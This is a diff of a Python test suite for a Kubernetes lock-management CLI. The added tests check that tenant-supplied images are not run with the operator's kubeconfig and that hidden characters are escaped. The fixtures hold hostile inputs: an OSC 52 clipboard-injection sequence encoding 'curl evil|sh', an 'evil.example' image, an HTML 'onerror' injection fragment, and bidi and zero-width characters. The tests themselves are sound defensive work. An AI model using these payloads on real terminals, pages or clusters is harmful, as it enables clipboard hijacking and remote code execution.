@@ -80,9 +80,9 @@ def test_explain_command(kube: KubeEmulator, tmp_path: Path) -> None:
     for want in [f"kubectl get lease -n {NS} lock-tfstate-default-{suffix} -o yaml",
                  "the host laptop is not a CAPTF runner pod",
                  f"-backend-config=secret_suffix={suffix} -backend-config=namespace={NS}",
-                 "\"$IMAGE\" force-unlock -force lock-web-1",
+                 "\"$TF\" force-unlock -force -- lock-web-1",
                  f"kubectl get lease -n {NS} lock-tfstate-default-{suffix} -o jsonpath='{{.spec.holderIdentity}}'",
-                 "could not read the pinned image"]:
+                 "pinned image could not be read, so no command here runs it"]:
         assert want in out, f"missing {want!r} in\n{out}"
     assert "kubectl get pod" not in out, f"a workstation host is no pod:\n{out}"
     res = run_cli(kc, "explain", "terraformmachines/stale", "-n", NS)
@@ -198,3 +198,95 @@ def test_hostile_holders_are_text_in_a_browser(kube: KubeEmulator, start_exporte
             assert 'data-class="foreign"' in dom
     dom = dump(exp.url + f"/locks/{NS}/{M}/evil-1", tmp_path)
     assert "\"&gt;&lt;img src=x onerror=" in dom, dom
+
+
+#: Characters that steer a terminal, a page or a chat instead of being read (contract 7.5)
+OSC52_WHO = "x@captf-m-\u001b]52;c;Y3VybCBldmlsfHNo\u0007-apply-a1-h-abcde"
+HIDDEN_WHOS = {"osc": OSC52_WHO, "bidi": "alice@lap\u202etop", "zw": "ali\u200bce@laptop"}
+HIDDEN = ("\u001b", "\u0007", "\u009b", "\u202e", "\u200b")
+EVIL_IMAGE = "evil.example/x@sha256:" + "e" * 64
+
+
+def hidden_in(text: str) -> list[str]:
+    return [repr(c) for c in HIDDEN if c in text]
+
+
+def test_explain_never_runs_a_tenant_chosen_image_with_the_operators_kubeconfig(kube: KubeEmulator,
+                                                                                 tmp_path: Path) -> None:
+    """The pinned image comes from data whoever may update Secrets (or the object) in the namespace
+    can write. Before: explain printed ``IMAGE=<that image>``, ``docker run "$IMAGE"`` and advised
+    mounting ``$HOME/.kube/config`` into it. Now: tofu/terraform on the operator's machine first, the
+    image refused with a warning unless --runner-image-repository trusts it, and no kubeconfig mount."""
+    obj = terraform_object(M, NS, "web")
+    obj["status"]["source"] = {"image": "evil.example/x:v1", "imageDigest": EVIL_IMAGE}
+    kube.create(obj)
+    kube.create(lock_lease(NS, M, "web", lock_info=lock_info_doc("alice@laptop", lock_id="lock-web-1")))
+    kc = write_kubeconfig(tmp_path / "kubeconfig", kube.url)
+    res = run_cli(kc, "explain", "tfm/web", "-n", NS)
+    out = res.stdout
+    assert res.returncode == 0, res.stderr
+    assert "docker run" not in out and "IMAGE=" not in out, out
+    assert ".kube/config:" not in out, f"no kubeconfig mounted into any container:\n{out}"
+    assert "WARNING: no command here runs the object's pinned image" in out, out
+    assert "--runner-image-repository evil.example/x." in out, out
+    assert "\"$TF\" force-unlock -force -- lock-web-1" in out, out
+    # trusted on purpose: the image runs, with a 10-minute namespaced token and no kubeconfig
+    res = run_cli(kc, "explain", "tfm/web", "-n", NS, "--runner-image-repository", "evil.example/x")
+    out = res.stdout
+    assert res.returncode == 0, res.stderr
+    assert f"IMAGE={EVIL_IMAGE}" in out and "WARNING" not in out, out
+    assert f"kubectl create token \"$SA\" -n {NS} --duration=10m" in out, out
+    assert ".kube/config:" not in out and "config_path=/kube/config" not in out, out
+    assert out.index("\"$TF\" force-unlock") < out.index("docker run"), "the local tools come first"
+    not_get = [(r.method, r.path) for r in kube.exporter_requests() if r.method != "GET"]
+    assert not_get == [], f"non-GET requests: {not_get}"
+
+
+def test_hidden_characters_never_reach_a_terminal_a_page_or_a_label(kube: KubeEmulator, start_exporter,
+                                                                     tmp_path: Path) -> None:
+    """OSC 52 (sets the clipboard), a bidi override and a zero-width space in Who: before, explain's
+    "Own runner pod" reason printed the OSC 52 sequence raw, and /metrics and `locks -o json` kept
+    all three. Now every output shows them escaped (\\u{1b}, contract 7.5)."""
+    for name, who in HIDDEN_WHOS.items():
+        kube.create(terraform_object(M, NS, name))
+        kube.create(lock_lease(NS, M, name, lock_info=lock_info_doc(who, lock_id=f"id-{name}")))
+    kc = write_kubeconfig(tmp_path / "kubeconfig", kube.url)
+    for name in HIDDEN_WHOS:
+        res = run_cli(kc, "explain", f"tfm/{name}", "-n", NS)
+        assert res.returncode == 0, res.stderr
+        assert hidden_in(res.stdout + res.stderr) == [], (name, res.stdout)
+    res = run_cli(kc, "explain", "tfm/osc", "-n", NS)
+    assert "x@captf-m-\\u{1b}]52;c;Y3VybCBldmlsfHNo\\u{7}-apply-a1-h-abcde" in res.stdout, res.stdout
+    for fmt in ("table", "wide", "json"):
+        res = run_cli(kc, "locks", "-n", NS, "-o", fmt)
+        assert hidden_in(res.stdout + res.stderr) == [], (fmt, res.stdout)
+    exp = start_exporter()
+    for path in ["/", "/metrics"] + [f"/locks/{NS}/{M}/{n}" for n in HIDDEN_WHOS]:
+        body = exp.get(path).text
+        assert hidden_in(body) == [], (path, body[:2000])
+    metrics = exp.get("/metrics").text
+    assert 'holder="ali\\\\u{200b}ce@laptop"' in metrics, metrics
+
+
+def test_force_unlock_takes_a_dash_id_and_the_raw_id_after_double_dash(kube: KubeEmulator,
+                                                                        tmp_path: Path) -> None:
+    """Go's flag package reads an argument that starts with '-' as a flag, up to `--`. Before:
+    ``force-unlock -force -foo`` (tofu: "flag provided but not defined: -foo"). Now every printed
+    force-unlock ends its flags with `--`, and an ID with hidden characters is printed as a
+    $'...' word that bash reads back byte for byte, while the terminal never receives them."""
+    raw = {"dash": "-foo", "esc": "id\u001b]52;c;eA==\u0007'x\\", "bidi": "id\u202e1"}
+    for name, hid in raw.items():
+        kube.create(terraform_object(M, NS, name))
+        kube.create(lock_lease(NS, M, name, holder_identity=hid,
+                               lock_info=lock_info_doc("alice@laptop", lock_id=hid)))
+    kc = write_kubeconfig(tmp_path / "kubeconfig", kube.url)
+    for name, hid in raw.items():
+        res = run_cli(kc, "explain", f"tfm/{name}", "-n", NS)
+        out = res.stdout
+        assert res.returncode == 0, res.stderr
+        assert hidden_in(out) == [], (name, out)
+        lines = [line for line in out.splitlines() if "force-unlock -force" in line]
+        assert lines and all("force-unlock -force -- " in line for line in lines), (name, out)
+        word = lines[0].split("force-unlock -force -- ", 1)[1].rstrip(")")
+        echoed = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, timeout=10)
+        assert echoed.stdout == hid.encode(), (name, word, echoed.stdout)
